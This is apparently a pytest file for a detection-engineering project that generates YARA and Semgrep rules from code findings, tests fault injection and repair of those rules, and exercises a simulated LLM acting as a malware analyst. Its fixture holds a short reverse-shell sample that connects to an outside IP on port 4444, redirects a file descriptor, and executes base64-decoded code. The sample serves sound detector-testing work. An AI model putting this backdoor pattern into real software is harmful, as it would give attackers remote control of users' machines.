"""Tests for rule synthesis, fault injection/repair and the simulated provider."""

import pytest

from repro.llm import protocol
from repro.llm.analysis import CodeAnalyzer
from repro.llm.base import ChatMessage, CompletionRequest
from repro.llm.faults import FaultInjector, RuleRepairer, SEMGREP_FAULTS, YARA_FAULTS
from repro.llm.profiles import GPT_4O, LLAMA_31_70B, ORACLE
from repro.llm.rule_synthesis import (
    merge_semgrep_sources,
    merge_yara_sources,
    rule_name_for,
    synthesize_semgrep,
    synthesize_yara,
)
from repro.llm.simulated import SimulatedAnalystLLM
from repro.semgrepx import compile_yaml
from repro.semgrepx.compiler import try_compile as try_semgrep
from repro.utils.seeding import DeterministicRandom
from repro.yarax import compile_source
from repro.yarax.compiler import try_compile as try_yara

SNIPPET = '''
import socket, os, base64
def backdoor():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("45.137.21.9", 4444))
    os.dup2(s.fileno(), 0)
def hide():
    exec(base64.b64decode("aW1wb3J0IG9z"))
'''


def findings():
    return CodeAnalyzer().analyze_code(SNIPPET).findings


# -- synthesis -------------------------------------------------------------------

def test_rule_name_reflects_dominant_finding():
    name = rule_name_for(findings(), "yara", "abcd1234")
    assert name.startswith("MAL_")
    semgrep_name = rule_name_for(findings(), "semgrep", "abcd1234")
    assert semgrep_name.startswith("detect-")


def test_synthesize_yara_compiles_and_matches_sample():
    rng = DeterministicRandom(1, "syn")
    source = synthesize_yara(findings(), "MAL_test_rule", ORACLE, rng)
    ruleset = compile_source(source)
    assert ruleset.match(SNIPPET), "rule should match the code it was derived from"


def test_synthesize_yara_oracle_has_no_generic_strings():
    rng = DeterministicRandom(2, "syn")
    source = synthesize_yara(findings(), "MAL_oracle_rule", ORACLE, rng)
    assert "requests.get(" not in source
    assert "os.environ" not in source


def test_synthesize_yara_empty_findings_still_valid():
    rng = DeterministicRandom(3, "syn")
    source = synthesize_yara([], "MAL_empty", GPT_4O, rng)
    compile_source(source)


def test_synthesize_semgrep_compiles_and_fires():
    rng = DeterministicRandom(4, "syn")
    yaml_text = synthesize_semgrep(findings(), "detect-test-rule", ORACLE, rng)
    ruleset = compile_yaml(yaml_text)
    from repro.semgrepx import ScanTarget
    assert ruleset.match_target(ScanTarget.from_files("s", [("s.py", SNIPPET)]))


def test_merge_yara_sources_dedupes_strings():
    rng = DeterministicRandom(5, "merge")
    source = synthesize_yara(findings(), "MAL_a", ORACLE, rng)
    merged = merge_yara_sources([source, source], "MAL_merged", ORACLE, rng)
    ruleset = compile_source(merged)
    rule = ruleset.rules[0]
    values = [s.definition.value for s in rule.strings]
    assert len(values) == len(set(values))


def test_merge_semgrep_sources_produces_single_rule():
    rng = DeterministicRandom(6, "merge")
    a = synthesize_semgrep(findings(), "detect-a", ORACLE, rng)
    b = synthesize_semgrep(findings(), "detect-b", ORACLE, rng)
    merged = merge_semgrep_sources([a, b], "detect-merged", ORACLE, rng)
    ruleset = compile_yaml(merged)
    assert ruleset.rule_ids() == ["detect-merged"]


def test_merge_ignores_unparseable_inputs():
    rng = DeterministicRandom(7, "merge")
    merged = merge_yara_sources(["not a rule at all", synthesize_yara(findings(), "MAL_x", ORACLE, rng)],
                                "MAL_merged2", ORACLE, rng)
    compile_source(merged)


# -- fault injection and repair -----------------------------------------------------

@pytest.mark.parametrize("fault", YARA_FAULTS)
def test_yara_faults_break_and_repair_restores(fault):
    rng = DeterministicRandom(8, "fault", fault)
    source = synthesize_yara(findings(), "MAL_fault_target", ORACLE, rng)
    broken = FaultInjector(rng).apply_yara_fault(source, fault)
    ruleset, error = try_yara(broken)
    if ruleset is not None:
        pytest.skip(f"fault {fault} did not break this particular rule")
    repaired = RuleRepairer.repair_yara(broken, error)
    ruleset, error = try_yara(repaired)
    assert ruleset is not None, f"repair failed for {fault}: {error}"


@pytest.mark.parametrize("fault", SEMGREP_FAULTS)
def test_semgrep_faults_break_and_repair_restores(fault):
    rng = DeterministicRandom(9, "fault", fault)
    yaml_text = synthesize_semgrep(findings(), "detect-fault-target", ORACLE, rng)
    broken = FaultInjector(rng).apply_semgrep_fault(yaml_text, fault)
    ruleset, error = try_semgrep(broken)
    if ruleset is not None:
        pytest.skip(f"fault {fault} did not break this particular rule")
    repaired = RuleRepairer.repair_semgrep(broken, error)
    ruleset, error = try_semgrep(repaired)
    assert ruleset is not None, f"repair failed for {fault}: {error}"


# -- simulated provider ---------------------------------------------------------------

def craft_request(rule_format="yara"):
    user = (protocol.section("TASK", protocol.TASK_CRAFT)
            + protocol.section("FORMAT", rule_format)
            + protocol.section("SAMPLE 1", SNIPPET)
            + protocol.section("SAMPLE 2", SNIPPET.replace("backdoor", "sync")))
    return CompletionRequest.from_prompt("You are a senior malware analyst.", user)


def test_simulated_llm_is_deterministic():
    a = SimulatedAnalystLLM(ORACLE, seed=1).complete(craft_request())
    b = SimulatedAnalystLLM(ORACLE, seed=1).complete(craft_request())
    assert a.text == b.text


def test_simulated_llm_seed_changes_output():
    a = SimulatedAnalystLLM(GPT_4O, seed=1).complete(craft_request())
    b = SimulatedAnalystLLM(GPT_4O, seed=2).complete(craft_request())
    assert a.model == b.model == "gpt-4o"
    # outputs may coincide for robust rules but usage accounting always records
    assert a.usage.completion_tokens > 0 and b.usage.completion_tokens > 0


def test_simulated_llm_oracle_craft_compiles():
    response = SimulatedAnalystLLM(ORACLE).complete(craft_request())
    rule = protocol.extract_rule_from_completion(response.text)
    assert try_yara(rule)[0] is not None


def test_simulated_llm_semgrep_craft():
    response = SimulatedAnalystLLM(ORACLE).complete(craft_request("semgrep"))
    rule = protocol.extract_rule_from_completion(response.text)
    assert try_semgrep(rule)[0] is not None


def test_simulated_llm_weak_profile_produces_more_faults():
    weak_faults = strong_faults = 0
    for seed in range(25):
        weak = SimulatedAnalystLLM(LLAMA_31_70B, seed=seed).complete(craft_request())
        strong = SimulatedAnalystLLM(ORACLE, seed=seed).complete(craft_request())
        weak_faults += try_yara(protocol.extract_rule_from_completion(weak.text))[0] is None
        strong_faults += try_yara(protocol.extract_rule_from_completion(strong.text))[0] is None
    assert strong_faults == 0
    assert weak_faults > 0


def test_simulated_llm_truncates_long_prompts():
    provider = SimulatedAnalystLLM(GPT_4O)
    huge = protocol.section("TASK", "craft") + protocol.section("SAMPLE 1", "x = 1\n" * 120000)
    response = provider.complete(CompletionRequest.from_prompt("sys", huge))
    assert response.truncated_prompt


def test_simulated_llm_fix_task_repairs_rule():
    provider = SimulatedAnalystLLM(ORACLE)
    broken = 'rule x\n{\n    strings:\n        $a = "v"\n    condition:\n        $a and $missing\n}\n'
    _ruleset, error = try_yara(broken)
    user = (protocol.section("TASK", protocol.TASK_FIX) + protocol.section("FORMAT", "yara")
            + protocol.section("RULE", broken) + protocol.section("ERROR 1", error))
    response = provider.complete(CompletionRequest.from_prompt("fix it", user))
    repaired = protocol.extract_rule_from_completion(response.text)
    assert try_yara(repaired)[0] is not None


def test_chat_message_role_validation():
    with pytest.raises(ValueError):
        ChatMessage("robot", "hello")
